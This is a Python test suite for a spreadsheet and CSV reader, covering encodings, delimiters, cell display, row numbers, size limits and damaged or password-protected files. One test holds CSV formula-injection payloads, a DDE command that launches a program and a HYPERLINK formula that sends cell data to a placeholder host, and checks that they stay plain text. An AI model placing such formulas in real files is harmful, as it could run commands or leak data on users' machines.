"""Tables as text: encodings, delimiters, what a cell says, limits, real row numbers."""

from __future__ import annotations

import csv
import datetime
import io
from pathlib import Path

import made
import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from db.errors import Refusal
from desktop.files import limits, tables

CELLS = st.text(
    st.characters(
        codec="gb18030", exclude_characters="\0\r\ufeff\ufffd", exclude_categories=["Cs"]
    ),
    max_size=12,
)
TABLES = st.integers(2, 5).flatmap(
    lambda width: st.lists(st.lists(CELLS, min_size=width, max_size=width), min_size=1, max_size=12)
)


def rows(path: Path) -> list[list[str]]:
    return [cells for sheet in tables.sheets_of(path) for _, cells in sheet.rows()]


def refusal(path: Path) -> Refusal:
    with pytest.raises(Refusal) as caught:
        rows(path)
    return caught.value


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "utf-16"])
@pytest.mark.parametrize("delimiter", [",", "\t", ";"])
def test_every_encoding_and_delimiter_gives_the_same_rows(
    tmp_path: Path, encoding: str, delimiter: str
) -> None:
    path = made.a_csv(tmp_path, encoding=encoding, delimiter=delimiter)
    assert rows(path) == [list(made.HEADER), list(made.FIRM)]


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=150)
@given(table=TABLES, encoding=st.sampled_from(["utf-8-sig", "gb18030"]))
def test_what_a_csv_writer_writes_is_read_back(
    tmp_path: Path, table: list[list[str]], encoding: str
) -> None:
    out = io.StringIO(newline="")
    header = [f"列{i}" for i in range(len(table[0]))]  # so that the delimiter can be told
    csv.writer(out, quoting=csv.QUOTE_ALL).writerows([header, header, *table])
    path = made.a_file(tmp_path, out.getvalue().encode(encoding), "表.csv")
    assert rows(path)[2:] == table


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=200)
@given(data=st.binary(min_size=1, max_size=300))
def test_any_bytes_are_read_or_refused(tmp_path: Path, data: bytes) -> None:
    path = made.a_file(tmp_path, data, "随便.csv")
    try:
        for sheet in tables.sheets_of(path):
            list(sheet.rows())
    except Refusal as refused:
        assert "随便.csv" in refused.sentence  # noqa: PT017


def test_utf8_with_one_bad_byte_is_still_utf8(tmp_path: Path) -> None:
    data = made.a_csv(tmp_path, [made.HEADER, *[made.FIRM] * 20]).read_bytes()
    spoilt = data.replace("乙".encode(), b"\xe4\xb9", 1)
    read = rows(made.a_file(tmp_path, spoilt, "坏一字.csv"))
    assert "\ufffd" in read[1][0]
    assert read[2] == list(made.FIRM)


def test_gb18030_with_one_bad_byte_is_still_gb18030(tmp_path: Path) -> None:
    data = made.a_csv(tmp_path, [made.HEADER, *[made.FIRM] * 20], "gb18030").read_bytes()
    read = rows(made.a_file(tmp_path, data[:-3], "截断.csv"))  # cut inside the last character
    assert "\ufffd" in read[-1][-1]
    assert read[1] == list(made.FIRM)


def test_rare_characters_outside_gbk_arrive(tmp_path: Path) -> None:
    path = made.a_csv(
        tmp_path, [["名称", "来源"], ["㮾梨街道", "湖㳇镇"], ["和䶮", "𬭩"]], "gb18030"
    )
    assert rows(path)[1:] == [["㮾梨街道", "湖㳇镇"], ["和䶮", "𬭩"]]


def test_numbers_and_dates_look_as_a_person_sees_them(tmp_path: Path) -> None:
    cells = [
        123, 123.0, 0.1 + 0.2, 1.5e20, "007", datetime.date(2020, 9, 1),
        datetime.datetime(2020, 9, 1, 8, 30), datetime.time(8, 30), True, None, -0.5,
    ]  # fmt: skip
    path = made.a_workbook(tmp_path, [cells])
    assert rows(path) == [[
        "123", "123", "0.3", "150000000000000000000", "007", "2020-09-01",
        "2020-09-01 08:30:00", "08:30:00", "TRUE", "", "-0.5",
    ]]  # fmt: skip


def test_formulas_stay_text_or_their_last_value(tmp_path: Path) -> None:
    evil = ["=cmd|' /C calc'!A0", "@SUM(1)", "+86 138", '=HYPERLINK("http://x/"&A1)']
    assert rows(made.a_csv(tmp_path, [["甲", "乙", "丙", "丁"], evil]))[1] == evil
    assert rows(made.a_workbook(tmp_path, [["=1+1", "甲"]])) == [["", "甲"]]  # never calculated


def test_a_sheet_that_declares_one_cell_is_read_whole(tmp_path: Path) -> None:
    rows_in = b"".join(
        b'<row r="%d"><c r="A%d"><v>%d</v></c><c r="B%d"><v>2</v></c></row>' % (n, n, n, n)
        for n in range(1, 51)
    )
    xml = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<dimension ref="A1"/><sheetData>' + rows_in + b"</sheetData></worksheet>"
    )
    assert rows(made.with_sheet_xml(tmp_path, [xml]))[49] == ["50", "2"]


def test_rows_keep_the_number_the_spreadsheet_shows(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.active["C4"] = "企业名称"
    book.active["C9"] = "甲公司"
    book.save(tmp_path / "偏.xlsx")
    sheet = tables.sheets_of(tmp_path / "偏.xlsx")[0]
    assert [(n, c[2]) for n, c in sheet.rows() if any(c)] == [(4, "企业名称"), (9, "甲公司")]
    path = made.a_file(tmp_path, '名称,备注\n"甲\n乙",x\n\n丙,y\n'.encode(), "换行.csv")
    numbered = [(n, c[0]) for n, c in tables.sheets_of(path)[0].rows() if c]
    assert numbered == [(1, "名称"), (2, "甲\n乙"), (4, "丙")]


def test_too_many_rows_columns_and_letters_are_refused_with_the_place(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(limits, "ROWS", 3)
    monkeypatch.setattr(limits, "COLUMNS", 7)
    monkeypatch.setattr(limits, "CELL_CHARACTERS", 100)
    for make in (made.a_csv, made.a_workbook):
        assert refusal(make(tmp_path, [["甲", "乙"]] * 4)).code == "too_many_rows"
        wide = refusal(make(tmp_path, [["甲"] * 2, ["甲"] * 8]))
        assert (wide.code, wide.details["row"]) == ("too_many_columns", 2)
        long = refusal(make(tmp_path, [["甲", "乙"], ["甲", "字" * 101]]))
        assert (long.code, long.details["row"]) == ("cell_too_long", 2)


def test_empty_columns_far_right_do_not_count(tmp_path: Path) -> None:
    path = made.a_csv(tmp_path, [["甲", "乙", *[""] * 600], ["1", "2", *[""] * 600]])
    assert rows(path)[1][:2] == ["1", "2"]


def test_a_quote_that_never_closes_is_reported(tmp_path: Path) -> None:
    path = made.a_file(tmp_path, '名称,备注\n甲,"一\n乙,二\n丙,三\n'.encode(), "引号.csv")
    sheet = tables.sheets_of(path)[0]
    assert "引号没有闭合" in sheet.broken[2]
    whole = made.a_file(tmp_path, '名称,备注\n甲,"一\n二"\n'.encode(), "好.csv")
    assert tables.sheets_of(whole)[0].broken == {}


def test_real_workbooks_of_every_format_open(shared_data: Path) -> None:
    heights = {
        path.name: sum(1 for s in tables.sheets_of(path) for _ in s.rows())
        for path in sorted((shared_data / "messy_spreadsheets").rglob("*.*"))
        if "password" not in path.name
    }
    assert heights == {
        "merge_cells.ods": 4, "merge_cells.xls": 4, "named_ranges_2011.xlsb": 10,
        "named_ranges_2011.xlsx": 10, "number_format_russian.xls": 153,
        "rich_text_stress.ods": 15, "rich_text_stress.xlsb": 15,
        "省级财政_合并单元格.xls": 63, "项目信息表_两行合并表头_已去标识.xlsx": 937,
    }  # fmt: skip


def test_real_workbooks_under_a_password_say_so(shared_data: Path) -> None:
    protected = sorted((shared_data / "messy_spreadsheets").rglob("password*"))
    assert [refusal(path).code for path in protected] == ["password_protected"] * 6


def test_real_terminal_workbooks_declare_one_cell_and_are_read_whole(shared_data: Path) -> None:
    sizes = [
        (len(found := rows(path)), len(found[0]))
        for path in sorted((shared_data / "macro").glob("choice*.xlsx"))
    ]
    assert sizes == [(383, 25), (186, 32), (381, 36)]
